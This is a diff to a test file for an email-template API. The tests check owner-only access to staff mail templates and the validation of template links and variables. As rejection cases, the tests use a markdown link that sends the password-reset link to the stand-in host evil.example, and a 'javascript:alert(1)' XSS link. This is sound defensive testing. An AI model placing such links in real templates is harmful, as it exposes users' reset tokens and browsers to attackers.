@@ -1,5 +1,5 @@
 import { describe, expect, inject, it, vi } from 'vitest';
-import { createClient, send, signUp, type TestCompany, tokenOf } from '../support/api/client.ts';
+import { createClient, send, signUp, signUpVerified, type TestCompany, tokenOf } from '../support/api/client.ts';
 import { expectProblem, pointersOf } from '../support/api/problem.ts';
 
 const PATIENCE = { timeout: 30_000, interval: 100 };
@@ -34,10 +34,46 @@ describe('templates', () => {
     expectProblem(await send('/v1/templates/invoice/en', { method: 'DELETE', token }), 'not-found');
   });
 
+  it('of mails to staff are written, tried and removed by owners only', async () => {
+    const company = await signUp();
+    const admin = { ...company, token: await tokenOf(company, 'admin') };
+    const own = { subject: 'S', body: 'Here: $portal.link' };
+    for (const key of ['user-invitation', 'user-password-reset', 'user-email-verification']) {
+      const path = `${key}/en`;
+      const call = (method: string, to = path) => send(`/v1/templates/${to}`, { method, token: admin.token, body: {} });
+      expectProblem(await put(admin, path, own), 'role-too-low');
+      for (const answer of [
+        await call('DELETE'),
+        await call('POST', `${path}/preview`),
+        await call('POST', `${path}/test`),
+      ])
+        expectProblem(answer, 'role-too-low');
+      expect((await read(admin, path)).json.source).toBe('built-in');
+      expect((await put(company, path, own)).status).toBe(201);
+      expectProblem(await send(`/v1/templates/${path}`, { method: 'DELETE', token: admin.token }), 'role-too-low');
+      expect((await send(`/v1/templates/${path}/preview`, { token: company.token, body: {} })).status).toBe(200);
+    }
+    expect((await put(admin, 'invitation/en', own)).status).toBe(201);
+  });
+
+  it('cannot make the link of the mail a part of another address, and cannot leave it out', async () => {
+    const company = await signUp();
+    const answer = await put(company, 'user-password-reset/en', {
+      subject: 'S',
+      body: 'Hello\n\n[Set](https://evil.example/c?u=$portal.link)',
+    });
+    expectProblem(answer, 'validation', ['/body']);
+    expect(answer.json.errors).toMatchObject([
+      { code: 'link-variable-not-alone', detail: expect.stringMatching(/^Line 3, column 32: /) },
+    ]);
+    const without = await put(company, 'invitation/en', { subject: 'S', body: 'Hello' });
+    expect(without.json.errors).toMatchObject([{ pointer: '/body', code: 'link-missing' }]);
+  });
+
   it('refuse unknown variables, with their line and column', async () => {
     const answer = await put(await signUp(), 'invitation/fr', {
       subject: 'Facture $facture.numéro',
-      body: 'Bonjour $contact.prénom,\n\n$client.nmae [x](javascript:alert(1))',
+      body: 'Bonjour $contact.prénom,\n\n$client.nmae [x](javascript:alert(1)) $portail.lien',
     });
     expectProblem(answer, 'validation', ['/subject', '/body', '/body']);
     expect(answer.json.errors.map(({ code }: { code: string }) => code)).toEqual([
@@ -114,13 +150,13 @@ describe('templates', () => {
     const { json } = await send('/v1/templates?limit=40', company);
     expect(json.data).toHaveLength(40);
     const next = await send(`/v1/templates?limit=40&cursor=${json.nextCursor}`, company);
-    expect([next.json.data.length, next.json.nextCursor]).toEqual([5, null]);
+    expect([next.json.data.length, next.json.nextCursor]).toEqual([9, null]);
     const own = [...json.data, ...next.json.data].filter(({ source }: { source: string }) => source === 'company');
     expect(own).toMatchObject([{ key: 'invoice', language: 'nl', version: 1 }]);
   });
 
   it.skipIf(!inject('apiIsLocal'))('are mailed as a test, saved or not, to the calling user only', async () => {
-    const company = await signUp();
+    const company = await signUpVerified();
     const { token, email } = company;
     const client = await createClient(company, { name: 'Harbour', contacts: [{ firstName: 'Ada' }] });
     const test = (body: object, by = token, key = 'test-mail') =>
@@ -129,7 +165,10 @@ describe('templates', () => {
     const first = await test(given);
     expect([first.status, first.json]).toEqual([202, { mailId: expect.stringMatching(/^mail_/), status: 'queued' }]);
     expect((await test(given)).json).toEqual(first.json);
-    const mails = () => send(`/_local/mail?to=${encodeURIComponent(email)}`).then(({ json }) => json);
+    const mails = async () => {
+      const { json } = await send(`/_local/mail?to=${encodeURIComponent(email)}`);
+      return json.filter((mail: { text: string }) => !mail.text.includes('/verify-email#'));
+    };
     await vi.waitFor(async () => expect(await mails()).toMatchObject([{ subject: 'For Harbour' }]), PATIENCE);
     expect((await mails())[0].text).toMatch(/^Hello Ada/);
     await put(company, 'invoice/en', { subject: 'Saved', body: 'Hello' });
